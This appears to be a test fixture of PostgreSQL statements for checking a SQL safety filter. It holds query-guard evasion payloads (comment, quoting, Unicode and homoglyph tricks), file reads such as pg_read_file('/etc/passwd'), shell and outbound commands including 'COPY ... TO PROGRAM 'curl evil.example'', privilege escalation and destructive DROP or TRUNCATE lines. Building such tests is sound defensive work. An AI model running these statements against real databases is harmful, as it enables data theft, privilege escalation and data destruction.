SELECT 1;DROP TABLE x
====
SELECT/**/1;/**/DROP/**/TABLE/**/x
====
dRoP tAbLe customers
====
DELETE FROM customers
====
dElEtE/* x */FrOm/**/"customers"
====
/* SELECT */ DELETE FROM customers -- SELECT
====
SELECT 1 /* /* */ */ ; DROP TABLE x; -- */
====
SELECT 1 --
; DROP TABLE x
====
SELECT ''';DROP TABLE x;--'; DROP TABLE x
====
SELECT '\'; DROP TABLE x; --'
====
SELECT E'\\\\'; DROP TABLE x; --'
====
SELECT e'\\'; DROP TABLE x; --'
====
SELECT U&'\0027; DROP TABLE x; --'
====
SELECT * FROM U&"s\0061laries"
====
SELECT * FROM u&"!0073alaries" UESCAPE '!'
====
SELECT $$; $$; DROP TABLE x; --$$
====
SELECT $a$ $b$ ; $a$; DROP TABLE x
====
SELECT <NUL>1; DROP TABLE x
====
SELECT '<NUL>'; DROP TABLE x
====
SELECT 'unbalanced; DROP TABLE x
====
SELECT "unbalanced; DROP TABLE x
====
WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d
====
WITH i AS (INSERT INTO customers VALUES (1) RETURNING id) SELECT * FROM customers
====
WITH u AS (UPDATE customers SET name = 'x' RETURNING 1) SELECT 1
====
WITH a AS (SELECT 1), d AS MATERIALIZED (DELETE FROM customers RETURNING 1) SELECT * FROM a
====
SELECT * FROM (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) q
====
EXPLAIN ANALYZE DELETE FROM customers
====
EXPLAIN (ANALYZE) DELETE FROM customers
====
EXPLAIN (COSTS off, ANALYZE on) UPDATE customers SET name = 'x'
====
explain/**/analyze/**/delete from customers
====
SELECT * INTO evil FROM customers
====
SELECT * INTO TEMP TABLE evil FROM customers
====
CREATE TABLE evil AS SELECT * FROM customers
====
SELECT * FROM customers FOR UPDATE
====
SELECT * FROM customers FOR NO KEY UPDATE OF customers
====
SELECT * FROM customers FOR SHARE
====
DO 'BEGIN DELETE FROM customers; END'
====
DO $$ BEGIN DELETE FROM customers; END $$
====
DO LANGUAGE plpgsql 'BEGIN DELETE FROM customers; END'
====
COPY customers TO PROGRAM 'curl evil.example'
====
COPY (SELECT * FROM customers) TO '/tmp/x'
====
COPY customers FROM PROGRAM 'cat /etc/passwd'
====
COPY customers FROM STDIN
====
COPY salaries TO STDOUT
====
COPY public.salaries (name, amount) TO STDOUT WITH (FORMAT binary)
====
COPY (SELECT * FROM salaries) TO STDOUT
====
COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT
====
COPY (DELETE FROM customers RETURNING *) TO STDOUT
====
COPY (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) TO STDOUT
====
PREPARE p AS DELETE FROM customers
====
EXECUTE p
====
DEALLOCATE ALL
====
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM salaries
====
FETCH ALL FROM c
====
MOVE 10 IN c
====
CALL wipe()
====
SET ROLE postgres
====
SET SESSION AUTHORIZATION postgres
====
set local role to postgres
====
SET "ROLE" = postgres
====
RESET ROLE
====
RESET ALL
====
DISCARD ALL
====
SET search_path = evil
====
SET search_path TO evil, pg_catalog
====
SET standard_conforming_strings = off
====
SET client_encoding = 'SJIS'
====
SET NAMES 'BIG5'
====
SET session_replication_role = replica
====
SET default_transaction_read_only = off
====
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
====
SET application_name = 'x'; DROP TABLE x
====
SELECT set_config('role', 'postgres', false)
====
SELECT pg_catalog.set_config('search_path', 'evil', false)
====
SELECT "set_config"('role', 'postgres', false)
====
SELECT pg_catalog . set_config ('role', 'postgres', false)
====
SELECT nextval('customers_id_seq')
====
SELECT setval('customers_id_seq', 1)
====
SELECT lo_unlink(1)
====
SELECT lo_export(1, '/tmp/x')
====
SELECT pg_read_file('/etc/passwd')
====
SELECT pg_ls_dir('/')
====
SELECT pg_sleep(3600)
====
SELECT pg_terminate_backend(pid) FROM customers
====
SELECT pg_reload_conf()
====
SELECT dblink_exec('host=x', 'DROP TABLE x')
====
SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)
====
SELECT query_to_xml('DELETE FROM customers', true, true, '')
====
SELECT table_to_xml('salaries', true, true, '')
====
SELECT database_to_xml(true, true, '')
====
SELECT cursor_to_xml('c', 1, true, true, '')
====
SELECT id FROM customers WHERE wipe(id)
====
SELECT id FROM customers ORDER BY wipe(id)
====
SELECT id FROM customers GROUP BY id HAVING wipe(id)
====
SELECT id FROM customers LIMIT wipe(1)
====
SELECT count(*) FILTER (WHERE wipe(id)) FROM customers
====
SELECT sum(id) OVER (ORDER BY wipe(id)) FROM customers
====
SELECT CASE WHEN true THEN wipe(1) END
====
SELECT ARRAY[wipe(1)]
====
SELECT (wipe(1))
====
SELECT evil.count(1)
====
SELECT public.lower('x')
====
SELECT "public"."lower"('x')
====
SELECT * FROM wipe()
====
SELECT * FROM customers, wipe() w
====
SELECT * FROM customers CROSS JOIN LATERAL wipe(id) w
====
SELECT * FROM ROWS FROM (wipe()) x
====
SELECT * FROM salaries
====
SELECT * FROM public.salaries
====
SELECT * FROM "salaries"
====
SELECT * FROM "Customers"
====
SELECT * FROM customers, salaries
====
SELECT * FROM customers JOIN salaries ON true
====
SELECT * FROM customers NATURAL JOIN salaries
====
SELECT * FROM customers c, LATERAL (SELECT * FROM salaries) s
====
SELECT * FROM (customers CROSS JOIN salaries)
====
SELECT * FROM ((SELECT * FROM salaries)) s
====
SELECT * FROM customers WHERE id IN (SELECT id FROM salaries)
====
SELECT * FROM customers WHERE EXISTS (SELECT FROM salaries)
====
SELECT * FROM customers WHERE id = ANY (SELECT id FROM salaries)
====
SELECT * FROM customers WHERE id = ANY (ARRAY(SELECT id FROM salaries))
====
SELECT (SELECT amount FROM salaries LIMIT 1) FROM customers
====
SELECT * FROM customers ORDER BY (SELECT amount FROM salaries LIMIT 1)
====
SELECT * FROM customers LIMIT (SELECT amount FROM salaries LIMIT 1)
====
SELECT * FROM customers OFFSET (SELECT 1 FROM salaries)
====
SELECT * FROM customers GROUP BY id, (SELECT 1 FROM salaries)
====
SELECT sum(1) OVER (PARTITION BY (SELECT 1 FROM salaries)) FROM customers
====
SELECT coalesce((SELECT 1 FROM salaries), 1)
====
SELECT ((((SELECT 1 FROM salaries))))
====
SELECT * FROM customers UNION SELECT * FROM salaries
====
SELECT * FROM customers UNION (SELECT * FROM salaries)
====
SELECT * FROM customers EXCEPT ALL SELECT * FROM salaries
====
(SELECT * FROM customers) INTERSECT (SELECT * FROM salaries)
====
VALUES ((SELECT amount FROM salaries LIMIT 1))
====
SELECT * FROM (VALUES ((SELECT amount FROM salaries LIMIT 1))) v
====
TABLE salaries
====
SELECT * FROM (TABLE salaries) s
====
WITH s AS (TABLE salaries) SELECT * FROM s
====
SELECT * FROM ONLY salaries
====
SELECT * FROM ONLY (salaries)
====
SELECT * FROM salaries *
====
SELECT * FROM salaries TABLESAMPLE system (100)
====
SELECT FROM salaries
====
SELECT salaries FROM salaries
====
SELECT DISTINCT FROM salaries
====
SELECT extract(epoch FROM now()) FROM salaries
====
SELECT 1 IS DISTINCT FROM 2 FROM salaries
====
SELECT trim('x' FROM name) FROM salaries
====
SELECT substring((SELECT name FROM salaries) FROM 1 FOR 2)
====
WITH customers AS (SELECT * FROM salaries) SELECT * FROM customers
====
WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries
====
WITH a AS (SELECT * FROM salaries), salaries AS (SELECT 1) SELECT * FROM a
====
WITH RECURSIVE t AS (SELECT * FROM salaries UNION ALL SELECT * FROM t) SELECT * FROM t
====
WITH customers AS (SELECT 1) SELECT * FROM (WITH salaries AS (SELECT 1) SELECT 2) q, salaries
====
SELECT * FROM customers, (WITH salaries AS (SELECT 1) SELECT * FROM salaries) q, salaries
====
INSERT INTO customers TABLE salaries
====
INSERT INTO customers SELECT * FROM customers
====
INSERT INTO customers DEFAULT VALUES
====
UPDATE customers SET name = 'x' WHERE id = 1
====
MERGE INTO customers USING customers c ON false WHEN NOT MATCHED THEN INSERT VALUES (1)
====
TRUNCATE customers
====
TRUNCATE TABLE ONLY customers CASCADE
====
ALTER TABLE customers DISABLE ROW LEVEL SECURITY
====
ALTER SYSTEM SET log_statement = 'none'
====
ALTER ROLE bot SUPERUSER
====
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
====
CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END
====
CREATE RULE r AS ON SELECT TO customers DO INSTEAD DELETE FROM customers
====
CREATE TRIGGER t BEFORE INSERT ON customers EXECUTE FUNCTION f()
====
CREATE OR REPLACE VIEW customers AS SELECT * FROM salaries
====
CREATE TEMP VIEW customers AS SELECT * FROM salaries
====
CREATE EXTENSION dblink
====
CREATE SCHEMA customers
====
GRANT ALL ON customers TO public
====
REVOKE ALL ON customers FROM bot
====
COMMENT ON TABLE customers IS 'x'
====
LOCK TABLE customers
====
LOCK customers IN ACCESS EXCLUSIVE MODE
====
VACUUM FULL customers
====
ANALYZE customers
====
CLUSTER customers
====
REINDEX TABLE customers
====
REFRESH MATERIALIZED VIEW customers
====
NOTIFY customers, 'x'
====
LISTEN customers
====
CHECKPOINT
====
LOAD 'evil'
====
IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public
====
SECURITY LABEL ON TABLE customers IS 'x'
====
REASSIGN OWNED BY a TO b
====
DROP OWNED BY a
====
COMMIT; DELETE FROM customers
====
COMMIT
====
ROLLBACK
====
PREPARE TRANSACTION 'x'
====
COMMIT PREPARED 'x'
====
BEGIN; DELETE FROM customers; COMMIT
====
BEGIN READ WRITE
====
SELECT 1 \; DROP TABLE x
====
SELECT 1 \g
====
SELECT * FROM customers WHERE name = 'x' OR 1=1; UPDATE customers SET name = name
====
SELECT 1 OPERATOR(evil.+) 2
====
SELECT 1 OPERATOR(public.@#@) 2
====
SELECT * FROM customers WHERE data OPERATOR(public.?) 'x'
====
SELECT B'1', * FROM salaries
====
SELECT x.* FROM customers AS x(a, b), salaries
====
SELECT*FROM"salaries"
====
SELECT(1)FROM(salaries)
====
SELECT 1FROM salaries
====
SELECT 1.FROM salaries
====
SELECT+1FROM/**/salaries
====
SELECT'x'FROM salaries
====
SELECT	id
FROMsalaries
====
SELECT * FROM salaries
====
ＳＥＬＥＣＴ * FROM salaries
====
SELECT * FROM salаries
====
SELECT * FROM pg_catalog.pg_authid
====
SELECT * FROM pg_shadow
====
SELECT * FROM information_schema.tables
====
SELECT customers.* FROM customers, pg_stats
====
SELECT 'salaries'::regclass; DELETE FROM customers
====
SELECT xmlparse(document '<a/>')
====
SELECT * FROM xmltable('/a' passing '<a/>' columns x int)
====
SELECT * FROM json_table('{}', '$' COLUMNS (x int)), salaries
====
SELECT GROUPING(id) FROM salaries GROUP BY GROUPING SETS ((id), ())
====
SELECT INTO evil FROM customers
====
SELECT id INTO salaries
====
SHOW x; DELETE FROM customers
====
begin; explain (analyze) insert into customers values (1); rollback
====
EXPLAIN ("analyze") DELETE FROM customers
====
EXPLAIN ("ANALYZE" true) DELETE FROM customers
====
EXPLAIN (analyze 'on') DELETE FROM customers
====
EXPLAIN DELETE FROM customers
====
EXPLAIN (serialize text, "analyze") UPDATE customers SET name = 'x'
====
SELECT ('tickets'::regclass).nextval
====
SELECT (1).purge FROM customers
====
SELECT (ARRAY[1])[1].purge FROM customers
====
SELECT $1.purge FROM customers
====
SELECT id FROM customers WHERE (id).purge = 1
====
SELECT id FROM customers ORDER BY (customers).refund
====
PREPARE p AS SELECT * FROM salaries
====
PREPARE p AS DELETE FROM customers
====
PREPARE p AS SELECT id FROM customers; EXECUTE p; EXECUTE q
====
EXECUTE p
====
EXECUTE p((SELECT max(id) FROM salaries))
====
EXPLAIN ANALYZE EXECUTE p
====
CREATE TABLE x AS EXECUTE p
====
DECLARE c CURSOR FOR SELECT * FROM salaries
====
DECLARE c CURSOR FOR SELECT id FROM customers FOR UPDATE
====
DECLARE c CURSOR FOR SELECT pg_read_file('x')
====
FETCH ALL FROM c
====
MOVE ALL FROM c
====
FETCH ALL FROM "<unnamed portal 1>"
====
CALL p()
====
CALL customers()
====
DO $$BEGIN DELETE FROM customers; END$$
====
DO LANGUAGE plpgsql 'BEGIN END'
====
CREATE VIEW customers AS SELECT * FROM salaries
====
CREATE RULE r AS ON SELECT TO customers DO INSTEAD SELECT * FROM salaries
====
ALTER TABLE salaries RENAME TO customers
====
ALTER TABLE other.customers SET SCHEMA public
====
COMMENT ON TABLE customers IS 'x'
====
LOCK customers
====
VACUUM customers
====
ANALYZE customers
====
NOTIFY customers
====
LISTEN customers
====
UNLISTEN *
====
DEALLOCATE ALL
====
CLOSE c
====
SECURITY LABEL ON TABLE customers IS 'x'
====
GRANT SELECT ON customers TO public
====
TRUNCATE customers
====
REFRESH MATERIALIZED VIEW customers
====
CREATE FUNCTION lower(customers) RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT 1; DELETE FROM customers; END
====
CREATE SCHEMA s CREATE TABLE t (x int)
====
PREPARE p AS SELECT * FROM salaries; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; DEALLOCATE p; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; DEALLOCATE ALL; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; EXECUTE p (nextval('s'))
====
PREPARE p AS SELECT id FROM customers; EXECUTE "P"
====
PREPARE p AS SELECT id FROM customers; PREPARE p AS SELECT * FROM salaries; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; EXPLAIN ANALYZE EXECUTE q
====
DECLARE c CURSOR FOR SELECT id FROM customers; CLOSE c; FETCH c
====
DECLARE c CURSOR FOR SELECT id FROM customers; FETCH d
====
PREPARE c AS SELECT id FROM customers; FETCH c
====
PREPARE p AS SELECT id FROM customers; SELECT evil(); EXECUTE p
====
DO 'begin perform id from salaries; end'
====
DO 'begin perform id from customers; end'
====
DO 'declare r salaries := (select s from salaries s); begin null; end'
====
DO 'begin null; end'; DO LANGUAGE plperl 'x'
====
DO $a$begin execute $b$drop table customers$b$; end$a$
====
DO 'begin commit; end'
====
SELECT * FROM pg_temp.customers
====
SELECT * FROM customers.customers
====
SELECT * FROM shop.public.customers
====
SELECT pg_temp.lower(name) FROM customers
====
SELECT * FROM "customers "
====
SELECT * FROM "public.customers"
====
SELECT * FROM "Public".customers
====
SELECT * FROM salaries AS customers
====
SELECT "customers"."id" FROM "salaries" AS "customers"
====
SELECT * FROM customers AS salaries JOIN salaries AS customers ON true
====
SELECT information_schema._pg_expandarray(ARRAY[1])
====
SELECT pg_catalog.lo_import('/etc/passwd')
====
SELECT lo_from_bytea(0, 'x')
====
SELECT lo_put(1, 0, 'x')
====
SELECT lo_get(1)
====
SELECT pg_read_binary_file('x')
====
SELECT pg_catalog."pg_read_file"('x')
====
SELECT pg_stat_file('x')
====
SELECT * FROM pg_ls_waldir()
====
SELECT * FROM pg_read_file('x') AS customers
====
SELECT customers FROM pg_ls_dir('.') AS customers
====
SELECT pg_logical_emit_message(true, 'a', 'b')
====
SELECT pg_create_physical_replication_slot('x')
====
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
====
SELECT pg_advisory_lock(1)
====
SELECT pg_notify('a', 'b')
====
SELECT pg_export_snapshot()
====
SELECT pg_switch_wal()
====
SELECT pg_promote()
====
SELECT pg_cancel_backend(1)
====
SELECT pg_stat_reset()
====
SELECT txid_current()
====
SELECT pg_current_xact_id()
====
SELECT schema_to_xml('public', true, true, '')
====
SELECT query_to_xml_and_xmlschema('TABLE salaries', true, true, '')
====
SELECT query_to_xmlschema('TABLE salaries', true, true, '')
====
SELECT * FROM ts_stat('SELECT v FROM salaries')
====
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM salaries')
====
SELECT * FROM crosstab('SELECT * FROM salaries') AS t(a text)
====
SELECT * FROM connectby('salaries', 'a', 'b', '1', 0) AS t(a text)
====
SELECT dblink_connect('host=evil')
====
SELECT * FROM dblink_fetch('c', 1) AS t(a int)
====
SELECT currtid2('salaries', '(0,1)')
====
SELECT pg_get_viewdef('salaries'); TABLE salaries
====
SELECT row_to_json(s) FROM salaries s
====
SELECT to_jsonb(salaries) FROM salaries
====
SELECT id FROM customers WHERE id OPERATOR(evil.=) 1
====
SELECT id FROM customers WHERE id OPERATOR(evil.=) ANY (ARRAY[1])
====
SELECT id FROM customers ORDER BY id USING OPERATOR(evil.<)
====
SELECT id FROM customers WHERE id OPERATOR(evil.=) (SELECT 1)
====
SELECT OPERATOR(evil.-) id FROM customers
====
CREATE OPERATOR = (LEFTARG = customers, RIGHTARG = customers, FUNCTION = wipe)
====
CREATE OPERATOR CLASS evil DEFAULT FOR TYPE int USING btree AS OPERATOR 1 <, FUNCTION 1 wipe(int, int)
====
CREATE CAST (text AS customers) WITH FUNCTION wipe(text) AS IMPLICIT
====
CREATE AGGREGATE count (int) (SFUNC = wipe, STYPE = int)
====
CREATE DOMAIN id AS int CHECK (wipe(VALUE))
====
CREATE TYPE name AS (a int)
====
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION wipe()
====
CREATE POLICY p ON customers USING (wipe(id))
====
CREATE RULE r AS ON UPDATE TO customers DO ALSO DELETE FROM customers
====
ALTER TABLE customers ALTER name SET DEFAULT wipe(1)
====
ALTER TABLE customers ENABLE ALWAYS TRIGGER wipe
====
CREATE TABLE t (x int DEFAULT wipe(1))
====
CREATE INDEX i ON customers (wipe(id))
====
CREATE MATERIALIZED VIEW m AS SELECT * FROM customers
====
CREATE RECURSIVE VIEW customers (id) AS SELECT id FROM salaries
====
CREATE PUBLICATION p FOR ALL TABLES
====
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
====
CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (host 'evil')
====
CREATE FOREIGN TABLE customers (id int) SERVER s
====
CREATE USER MAPPING FOR public SERVER s
====
CREATE LANGUAGE evil HANDLER wipe
====
CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM wipe
====
CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION wipe(internal))
====
CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = evil RETURN 'x'
====
CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM customers; END $$
====
ALTER FUNCTION f() SET search_path = evil
====
ALTER FUNCTION f() SECURITY DEFINER
====
ALTER DATABASE shop SET search_path = evil
====
ALTER ROLE bot SET role = admin
====
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
====
ALTER USER bot RENAME TO admin
====
SELECT * FROM U&"customers"
====
SELECT U&"\0073alaries".* FROM customers
====
SELECT E'a'
 '\'; DROP TABLE x; --'
====
SELECT 'a' -- '
 'b'; DROP TABLE x
====
SELECT N'a' 'b'
====
SELECT 1 AS "a""; --"; DROP TABLE x
====
SELECT/*/**/*/1;/*/**/*/DELETE/**/FROM customers
====
SELECT 1 -- x<CR>; DROP TABLE x
====
SELECT 1 /* -- */ ; DROP TABLE x
====
SELECT $a$ $A$ $a$; DROP TABLE x --$A$
====
SELECT $1$1; DROP TABLE x; $1$
====
SELECT * FROM customers , salaries
====
SELECT * FROM customers​
====
SELECT * FROM ﻿salaries
====
SELECT * FROM custоmers
====
SELECT * FROM customers; DROP TABLE x
====
PREPARE p AS SELECT id FROM customers; DISCARD PLANS; EXECUTE p
====
PREPARE p AS SELECT id FROM customers; DEALLOCATE PREPARE p; PREPARE p AS TABLE salaries; EXECUTE p
====
PREPARE p AS SELECT * FROM salaries; EXPLAIN EXECUTE p
====
PREPARE p AS DELETE FROM customers; EXPLAIN EXECUTE p
====
PREPARE p AS DELETE FROM customers; EXPLAIN (ANALYZE, COSTS off) EXECUTE p
====
PREPARE p (int) AS SELECT wipe($1); EXPLAIN (ANALYZE off) EXECUTE p (1)
====
PREPARE p AS SELECT id FROM customers; EXPLAIN EXECUTE p (wipe(1))
====
PREPARE p AS SELECT id FROM customers; EXPLAIN EXECUTE p ((SELECT max(amount) FROM salaries))
====
EXPLAIN EXECUTE p
====
DECLARE c CURSOR FOR SELECT id FROM customers; DECLARE c CURSOR FOR TABLE salaries; FETCH c
====
DECLARE c BINARY INSENSITIVE SCROLL CURSOR WITH HOLD FOR TABLE salaries
====
DECLARE c CURSOR FOR SELECT id FROM customers; COMMIT; FETCH c
====
WITH x AS (SELECT 1) COPY customers TO PROGRAM 'sh'
====
COPY (SELECT 1) TO PROGRAM $$sh$$
====
COPY customers TO PROGRAM E'\x73h'
====
COPY (TABLE salaries) TO STDOUT
====
COPY "salaries" ("amount") TO STDOUT (FORMAT csv)
====
COPY BINARY salaries TO STDOUT
====
COPY (VALUES ((SELECT amount FROM salaries LIMIT 1))) TO STDOUT
====
COPY (INSERT INTO customers VALUES (1) RETURNING id) TO STDOUT
====
COPY (SELECT wipe(id) FROM customers) TO STDOUT
====
COPY customers FROM STDIN WHERE wipe(id)
====
SELECT JSON_QUERY((SELECT to_json(s) FROM salaries s), '$')
====
SELECT JSON_OBJECT('a': (SELECT amount FROM salaries LIMIT 1))
====
SELECT JSON_ARRAY(SELECT amount FROM salaries)
====
SELECT * FROM JSON_TABLE((SELECT to_jsonb(s) FROM salaries s), '$' COLUMNS (x int PATH '$'))
====
SELECT XMLSERIALIZE(CONTENT query_to_xml('TABLE salaries', true, true, '') AS text)
====
SELECT XMLFOREST((SELECT amount FROM salaries LIMIT 1) AS x)
====
WITH m AS (MERGE INTO customers c USING customers d ON false WHEN NOT MATCHED THEN INSERT VALUES (1) RETURNING *) SELECT * FROM m
====
SELECT id FROM customers WINDOW w AS (PARTITION BY (SELECT amount FROM salaries LIMIT 1))
====
SELECT id FROM customers FETCH FIRST (SELECT 1 FROM salaries) ROWS ONLY
====
SELECT DISTINCT ON ((SELECT amount FROM salaries LIMIT 1)) id FROM customers
====
SELECT id FROM customers TABLESAMPLE evil.wipe(1)
====
SELECT id FROM customers TABLESAMPLE bernoulli ((SELECT amount FROM salaries LIMIT 1))
====
SELECT id FROM customers TABLESAMPLE bernoulli (1) REPEATABLE (wipe(1))
====
SELECT id FROM customers GROUP BY ROLLUP (wipe(id))
====
SELECT id FROM customers GROUP BY CUBE (id, (SELECT 1 FROM salaries))
====
SELECT id FROM customers c JOIN customers d ON wipe(c.id)
====
SELECT id FROM customers FOR KEY SHARE SKIP LOCKED
====
SELECT * FROM generate_series(1, (SELECT max(amount) FROM salaries)) customers
====
SELECT array(TABLE salaries)
====
SELECT ROW((SELECT amount FROM salaries LIMIT 1), 1) FROM customers
====
SELECT id FROM customers WHERE (id, 1) IN (SELECT amount, 1 FROM salaries)
====
SELECT id FROM customers WHERE id BETWEEN 1 AND (SELECT max(amount) FROM salaries)
====
SELECT id FROM customers WHERE name LIKE wipe(1) ESCAPE 'x'
====
SELECT id AT TIME ZONE (SELECT name FROM salaries LIMIT 1) FROM customers
====
SELECT id FROM customers WHERE name IS NOT DISTINCT FROM wipe(1)
====
WITH RECURSIVE customers AS (TABLE salaries) SELECT * FROM customers
====
WITH RECURSIVE a AS (TABLE customers), customers AS (TABLE salaries) SELECT * FROM a
====
WITH t AS (SELECT 1) SELECT * FROM t, public.t
====
WITH t AS (SELECT id FROM customers) SELECT (WITH t AS (SELECT * FROM salaries) SELECT count(*) FROM t)
====
(TABLE salaries)
====
((TABLE customers) UNION ALL TABLE salaries)
====
VALUES (wipe(1))
====
SELECT * FROM (VALUES (wipe(1))) customers
====
INSERT INTO customers (id) VALUES (1) ON CONFLICT DO NOTHING
====
UPDATE ONLY customers SET (name) = ROW ('x')
====
DELETE FROM ONLY customers
====
DELETE FROM customers WHERE CURRENT OF c
====
SET LOCAL search_path = evil; SELECT id FROM customers
====
SET LOCAL ROLE admin; SELECT id FROM customers
====
SET SESSION search_path TO evil
====
SET "Search_Path" = evil
====
SET SEARCH_PATH = evil
====
SET SCHEMA 'evil'
====
SET row_security = off
====
SET app.user = 'admin'
====
SELECT set_config('app.user', 'admin', true)
====
SELECT pg_catalog."set_config"('role', 'admin', true)
====
SELECT id FROM customers WHERE set_config('search_path', 'evil', true) = ''
====
RESET search_path
====
RESET SESSION AUTHORIZATION
====
SET SESSION AUTHORIZATION DEFAULT
====
SET TRANSACTION READ WRITE
====
START TRANSACTION READ WRITE
====
BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE
====
SET CONSTRAINTS ALL DEFERRED
====
SET XML OPTION DOCUMENT
====
SET TRANSACTION SNAPSHOT '1'
====
SET statement_timeout = 0; CALL p()
====
SET plpgsql.variable_conflict = use_column
====
SET backslash_quote = on
====
SET escape_string_warning = off
====
SET default_tablespace = evil
====
SET lo_compat_privileges = on
====
SET local_preload_libraries = 'evil'
====
UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'
====
START_REPLICATION SLOT x LOGICAL 0/0
====
BASE_BACKUP
====
DROP_REPLICATION_SLOT x
====
\! sh
====
SELECT id FROM customers \gexec
====
CALL pg_catalog.lo_unlink(1)
====
DO 'begin perform wipe(1); end'
====
DO 'begin call p(); end'
====
DO 'declare c cursor for select * from salaries; begin open c; end'
====
ROLLBACK TO SAVEPOINT x; DELETE FROM customers
====
RELEASE x; TRUNCATE customers
